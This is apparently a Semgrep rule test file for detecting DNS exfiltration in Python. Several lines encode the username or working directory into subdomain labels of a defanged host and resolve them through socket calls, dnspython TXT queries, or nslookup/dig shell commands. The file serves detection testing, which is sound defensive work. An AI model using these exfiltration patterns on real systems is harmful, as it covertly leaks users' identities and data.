# Test for dns-exfil-label (defanged: example.invalid).
import base64
import getpass
import os
import socket
import subprocess

import dns.resolver

user_hex = getpass.getuser().encode().hex()
# ruleid: dns-exfil-label
socket.gethostbyname(f"{user_hex}.x.example.invalid")
# Semgrep does not propagate taint through slices (label chunking).
# todoruleid: dns-exfil-label
socket.gethostbyname(f"{user_hex[:29]}.x.example.invalid")

label = base64.b32encode(os.getcwd().encode()).decode().rstrip("=").lower()
# ruleid: dns-exfil-label
socket.getaddrinfo(label + ".example.invalid", 53)
# ruleid: dns-exfil-label
os.system("nslookup " + user_hex + ".example.invalid")

# ok: dns-exfil-label
socket.gethostbyname("example.invalid")
# ok: dns-exfil-label
digest = b"abc".hex()
# ok: dns-exfil-label
socket.gethostbyname(socket.gethostname())

resolver = dns.resolver.Resolver()
chunk = base64.b16encode(b"defanged").decode()
# ruleid: dns-exfil-label
resolver.resolve(chunk + ".t.example.invalid", "TXT")

legacy = getpass.getuser().encode("hex")
# ruleid: dns-exfil-label
os.popen("dig " + legacy + ".example.invalid")

# ok: dns-exfil-label
subprocess.run(["git", "tag", user_hex])
# ok: dns-exfil-label
resolver.resolve("example.invalid", "TXT")
